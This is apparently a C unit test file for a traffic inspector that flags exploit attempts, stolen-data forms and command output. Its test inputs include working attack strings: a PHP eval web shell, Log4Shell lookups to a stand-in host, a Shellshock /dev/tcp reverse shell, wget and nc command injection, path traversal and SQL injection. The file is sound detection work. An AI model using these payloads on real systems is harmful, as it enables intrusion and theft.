/*
 * unit/inspect/test_content.c - texts, forms and attempts: what they say, and what only looks so.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "../../../src/inspect/content/exploit.h"
#include "../../../src/inspect/content/form.h"
#include "../../../src/inspect/content/text.h"

static uint32_t marks(const char *text)
{
	return content_marks((const uint8_t *)text, strlen(text));
}

static void texts_are_marked(void **state)
{
	(void)state;
	assert_int_equal(marks("uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
			 CONTENT_OUTPUT);
	assert_int_equal(marks(" Volume Serial Number is 1234-ABCD\r\n"), CONTENT_OUTPUT);
	assert_int_equal(marks("<?php @eval($_POST['x']);?>"), CONTENT_CODE);
	assert_int_equal(marks("User Name: jo<br>Computer Name: PC-7<br>OSFullName: Windows<br>"),
			 CONTENT_MACHINE | CONTENT_HTML);
	assert_int_equal(marks("URL: https://x\r\nUsername: jo\r\nPassword: hunter2\r\n"),
			 CONTENT_PASSWORDS);
	/* "PS> whoami\nnt authority\\system, and so on and on" in base64 */
	assert_int_equal(
		marks("v=UFM+IHdob2FtaQpudCBhdXRob3JpdHlcc3lzdGVtLCBhbmQgc28gb24gYW5kIG9u"),
		CONTENT_OUTPUT | CONTENT_PROMPT | CONTENT_CODED);
	assert_int_equal(marks("x=Execute%28%22On+Error+Resume+Next%22%29"), CONTENT_CODE);
	assert_int_equal(marks("Please send me the password of the printer."), 0);
	assert_int_equal(marks("The gid= of a file is its group."), 0);
	assert_int_equal(content_marks(NULL, 0), 0);
}

static bool command(const char *text)
{
	return content_is_command((const uint8_t *)text, strlen(text));
}

static void command_lines_are_known(void **state)
{
	(void)state;
	assert_true(command("whoami"));
	assert_true(command("WHOAMI /all"));
	assert_true(command("net+user"));
	assert_true(command("cat /etc/passwd"));
	assert_true(command("cmd /c dir"));
	assert_true(command("dir c:\\"));
	assert_true(command("ls -la"));
	assert_false(command("director"));
	assert_false(command("lsof"));
	assert_false(command("get_status"));
	assert_false(command("catalogue"));
	assert_false(command(""));
}

static void base64_is_undone(void **state)
{
	uint8_t out[16];
	(void)state;
	assert_int_equal(content_base64(out, sizeof(out), (const uint8_t *)"aGVs\r\nbG8=", 10), 5);
	assert_memory_equal(out, "hello", 5);
	assert_int_equal(content_base64(out, sizeof(out), (const uint8_t *)"%2B%2F8%3D", 10), 2);
	assert_int_equal(out[0], 0xfb);
	assert_int_equal(content_base64(out, 3, (const uint8_t *)"aGVsbG8=", 8), 3);
	assert_int_equal(content_base64(out, sizeof(out), (const uint8_t *)"%", 1), 0);
}

static void read_form(struct form *f, const char *body, const char *type)
{
	form_read(f, (const uint8_t *)body, strlen(body), type, strlen(type));
}

static void forms_are_counted(void **state)
{
	struct form f;
	(void)state;
	read_form(&f, "hwid=77&pc=DESK&user=jo&os=w10&empty=", "");
	assert_int_equal(f.form, FORM_FIELDS);
	assert_int_equal(f.fields, 5);
	assert_int_equal(f.machine_fields, 3);
	assert_int_equal(f.credential_fields, 1);
	assert_false(f.is_one_value);
	read_form(&f, "cmd=net%20user", "application/x-www-form-urlencoded");
	assert_int_equal(f.command_fields, 1);
	assert_int_equal(f.marks, CONTENT_COMMAND);
	assert_true(f.is_one_value);
	read_form(&f, "{\"user\":\"jo\"}", "");
	assert_int_equal(f.form, FORM_JSON);
	read_form(&f, "<x/>", "text/xml");
	assert_int_equal(f.form, FORM_XML);
	read_form(&f, "QUJDREVGRw==", "application/x-www-form-urlencoded");
	assert_int_equal(f.form, FORM_RAW);
	assert_int_equal(f.fields, 0);
	read_form(&f, "\x01\x02=\x03", "application/x-www-form-urlencoded");
	assert_int_equal(f.form, FORM_RAW);
}

static const char multipart[] = "--xX\r\n"
				"Content-Disposition: form-data; name=\"user\"\r\n\r\n"
				"jo\r\n"
				"--xX\r\n"
				"Content-Disposition: form-data; name=\"f\"; filename=\"n.txt\"\r\n"
				"Content-Type: text/plain\r\n\r\n"
				"hello\r\n"
				"--xX\r\n"
				"Content-Disposition: form-data; name=f; filename=\"all.rar\"\r\n"
				"Content-Type: application/octet-stream\r\n\r\n"
				"Rar!\x1a\x07\x01"
				"AAAAAAAAAA\r\n"
				"--xX--\r\n";

static void multipart_forms_tell_their_files(void **state)
{
	static const char type[] = "multipart/form-data; boundary=\"xX\"";
	struct form f;
	(void)state;
	read_form(&f, multipart, type);
	assert_int_equal(f.form, FORM_MULTIPART);
	assert_int_equal(f.fields, 1);
	assert_int_equal(f.files, 2);
	assert_int_equal(f.credential_fields, 1);
	assert_int_equal(f.file_type, FILE_ARCHIVE);
	assert_int_equal(f.file_name.len, 7);
	assert_memory_equal(f.file_name.data, "all.rar", 7);
	for (size_t len = 1; len < sizeof(multipart); len++) {
		uint8_t *cut = malloc(len);
		assert_non_null(cut);
		memcpy(cut, multipart, len);
		form_read(&f, cut, len, type, len < sizeof(type) ? len : sizeof(type) - 1);
		(void)content_marks(cut, len);
		(void)content_shares(cut, len);
		free(cut);
	}
}

static void shares_need_runs(void **state)
{
	static const char text[] = "these are all words of the alphabet of base64";
	static const char hex[] = "00112233445566778899aabbccddeeff";
	(void)state;
	assert_int_equal(content_shares((const uint8_t *)text, sizeof(text) - 1).base64, 0);
	assert_int_equal(content_shares((const uint8_t *)hex, sizeof(hex) - 1).hex, 100);
	assert_int_equal(content_shares(NULL, 0).base64, 0);
}

static bool find(const char *text, bool is_head, struct exploit *x)
{
	return exploit_find((const uint8_t *)text, strlen(text), is_head, x);
}

static void attempts_are_found_with_whom_to_call(void **state)
{
	struct exploit x;
	(void)state;
	assert_true(
		find("GET / HTTP/1.1\r\nX-A: ${jndi:ldap://192.0.2.1:1389/a}\r\n\r\n", true, &x));
	assert_int_equal(x.kind, EXPLOIT_LOOKUP);
	assert_string_equal(x.target, "192.0.2.1");
	assert_int_equal(x.port, 1389);
	assert_true(find("q=${${lower:j}${::-n}${env:NO:-d}i:${lower:rmi}://evil.example/x}", false,
			 &x));
	assert_string_equal(x.target, "evil.example");
	assert_int_equal(x.port, 0);
	assert_true(find("q=%24%7Bjndi%3Aldap%3A%2F%2F[2001:db8::1]:99%2Fa%7D", false, &x));
	assert_string_equal(x.target, "2001:db8::1");
	assert_int_equal(x.port, 99);
	assert_true(find("GET / HTTP/1.0\r\nUser-Agent: () { :; }; /bin/bash -i >& "
			 "/dev/tcp/192.0.2.3/4444 0>&1\r\n\r\n",
			 true, &x));
	assert_int_equal(x.kind, EXPLOIT_SHELLSHOCK);
	assert_string_equal(x.target, "192.0.2.3");
	assert_int_equal(x.port, 4444);
	assert_true(
		find("GET /c?ip=1;wget${IFS}http://192.0.2.4:81/x.sh HTTP/1.1\r\n\r\n", true, &x));
	assert_int_equal(x.kind, EXPLOIT_COMMAND);
	assert_string_equal(x.target, "192.0.2.4");
	assert_int_equal(x.port, 81);
	assert_true(find("host=127.0.0.1%7Cnc+192.0.2.5+9001", false, &x));
	assert_string_equal(x.target, "192.0.2.5");
	assert_int_equal(x.port, 9001);
	assert_true(find("class.module.classLoader.resources=1", false, &x));
	assert_int_equal(x.kind, EXPLOIT_EXPRESSION);
	assert_true(find("GET /?q=%24{new+java.lang.ProcessBuilder('id').start()} HTTP/1.1\r\n",
			 true, &x));
	assert_int_equal(x.kind, EXPLOIT_EXPRESSION);
}

static void is_found(const char *path, enum exploit_kind kind)
{
	char line[512];
	struct exploit x;
	snprintf(line, sizeof(line), "GET %s HTTP/1.1\r\nHost: a\r\n\r\n", path);
	(void)find(line, true, &x);
	assert_int_equal(x.kind, kind);
	assert_string_equal(x.target, "");
}

static void paths_that_climb_are_found(void **state)
{
	(void)state;
	is_found("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", EXPLOIT_CLIMB);
	is_found("/cgi-bin/%2e%2e/%2e%2e/bin/sh", EXPLOIT_CLIMB);
	is_found("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", EXPLOIT_CLIMB);
	is_found("/c/winnt/system32/cmd.exe?/c+dir", EXPLOIT_CLIMB);
	is_found("/tmui/login.jsp/..;/tmui/x.jsp", EXPLOIT_CLIMB);
	is_found("/a?page=../../../../etc/passwd", EXPLOIT_FILE);
	is_found("/a?page=..%5C..%5Cwindows%5Cwin.ini", EXPLOIT_FILE);
	is_found("/a/../img/logo.png", EXPLOIT_NONE);
	is_found("/compare/v1.0...v1.1?x=/etc/passwd", EXPLOIT_NONE);
	is_found("/a?page=../../img/logo.png", EXPLOIT_NONE);
	is_found("/a?x=/..;/b", EXPLOIT_NONE);
}

static void values_that_go_on_as_sql_are_found(void **state)
{
	(void)state;
	is_found("/a?id=1%20UNION%20SELECT%201,2", EXPLOIT_QUERY);
	is_found("/a?id=1%27/**/union/**/all/**/select%20null", EXPLOIT_QUERY);
	is_found("/a?id=1%27+or+%271%27=%271", EXPLOIT_QUERY);
	is_found("/a?id=1)%20and%20sleep(5)--", EXPLOIT_QUERY);
	is_found("/a?id=7%20AND%20731=731", EXPLOIT_QUERY);
	is_found("/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", EXPLOIT_QUERY);
	is_found("/a?id=7%20AND%20731=732", EXPLOIT_NONE);
	is_found("/a?id=7%20AND%2073=731", EXPLOIT_NONE);
	is_found("/a?id=7%20and%20a=abc", EXPLOIT_NONE);
	is_found("/a?q=O%27Neil%20and%20sons", EXPLOIT_NONE);
	is_found("/a?$filter=id%20gt%205%20and%20length(name)%20gt%203", EXPLOIT_NONE);
	is_found("/?query=SELECT%201%20UNION%20ALL%20SELECT%202", EXPLOIT_NONE);
	is_found("/a?q=union%20select", EXPLOIT_NONE);
	is_found("/unit%2012union", EXPLOIT_NONE);
}

static void a_command_by_soap_is_found_and_names_nobody(void **state)
{
	struct exploit x;
	(void)state;
	assert_true(
		find("<p:ExecuteShellCommand_INPUT xmlns:p=\"http://a.example/x\">", false, &x));
	assert_int_equal(x.kind, EXPLOIT_COMMAND);
	assert_string_equal(x.target, "");
}

static void honest_requests_try_nothing(void **state)
{
	struct exploit x;
	(void)state;
	assert_false(find("GET /a?b=1&c=wget HTTP/1.1\r\nUser-Agent: curl/7; x\r\n"
			  "Cookie: a=b; c=d\r\n\r\n",
			  true, &x));
	assert_false(find("GET /docs/${name}/jndi HTTP/1.1\r\n\r\n", true, &x));
	assert_false(find("GET /api/java/lang/ProcessBuilder.html HTTP/1.1\r\n"
			  "User-Agent: Mozilla/5.0 (X11)\r\n\r\n",
			  true, &x));
	assert_false(find("text=I+said+curl+it;+then+left", false, &x));
	assert_false(find("", false, &x));
}

static void every_prefix_of_an_attempt_is_survived(void **state)
{
	static const char text[] =
		"a=%24{${lower:j}${::-n}di:ldap://[2001:db8::1]:99/x};nc 1.2.3.4 5"
		"/..%2f..%5c/etc/passwd?b=1' union all select '1'='1 and sleep(";
	struct exploit x;
	(void)state;
	for (size_t len = 1; len < sizeof(text); len++) {
		uint8_t *cut = malloc(len);
		assert_non_null(cut);
		memcpy(cut, text, len);
		(void)exploit_find(cut, len, len & 1, &x);
		free(cut);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(texts_are_marked),
		cmocka_unit_test(command_lines_are_known),
		cmocka_unit_test(base64_is_undone),
		cmocka_unit_test(forms_are_counted),
		cmocka_unit_test(multipart_forms_tell_their_files),
		cmocka_unit_test(shares_need_runs),
		cmocka_unit_test(attempts_are_found_with_whom_to_call),
		cmocka_unit_test(honest_requests_try_nothing),
		cmocka_unit_test(paths_that_climb_are_found),
		cmocka_unit_test(values_that_go_on_as_sql_are_found),
		cmocka_unit_test(a_command_by_soap_is_found_and_names_nobody),
		cmocka_unit_test(every_prefix_of_an_attempt_is_survived),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
